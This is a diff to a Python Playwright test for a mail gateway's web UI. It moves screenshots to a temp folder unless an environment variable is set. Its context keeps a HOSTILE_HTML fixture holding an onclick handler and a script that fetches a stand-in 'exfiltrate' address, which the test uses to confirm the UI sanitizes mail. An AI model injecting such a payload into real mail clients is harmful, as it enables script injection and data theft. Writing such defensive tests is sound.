@@ -1,15 +1,17 @@
 """The web UI in a real browser: Playwright driving Debian's chromium (installed by
 scripts/install-test-deps). Mail sent with smtplib appears in the inbox without a
 reload, opens, is searched and deleted; a hostile HTML message runs nothing and reaches
-nothing; the queue and honeypot pages show their data. Screenshots go to docs/console/."""
+nothing; the queue and honeypot pages show their data. Screenshots go to docs/console/ with MAILGATE_UPDATE_SCREENSHOTS=1."""
 
 from __future__ import annotations
 
 import base64
 import email.policy
 import http.server
+import os
 import shutil
 import smtplib
+import tempfile
 import threading
 from collections.abc import Iterator
 from email.message import EmailMessage
@@ -37,7 +39,14 @@ FLAGS = [
     "--disable-sync",
     "--no-first-run",
 ]
-SCREENSHOTS = Path(__file__).parents[2] / "docs" / "console"
+#: Where the screenshots go: docs/console/ when MAILGATE_UPDATE_SCREENSHOTS=1 (to refresh
+#: the committed ones), else a folder under the system's temp directory, so that a test run
+#: leaves the checkout unchanged (the pixels differ a little from run to run).
+SCREENSHOTS = (
+    Path(__file__).parents[2] / "docs" / "console"
+    if os.environ.get("MAILGATE_UPDATE_SCREENSHOTS") == "1"
+    else Path(tempfile.gettempdir()) / "mailgate-console-screenshots"
+)
 HOSTILE_HTML = (
     '<p id="greeting" onclick="alert(1)">Hello from the attacker</p>'
     "<script>alert(2); fetch('http://192.0.2.1/exfiltrate')</script>"
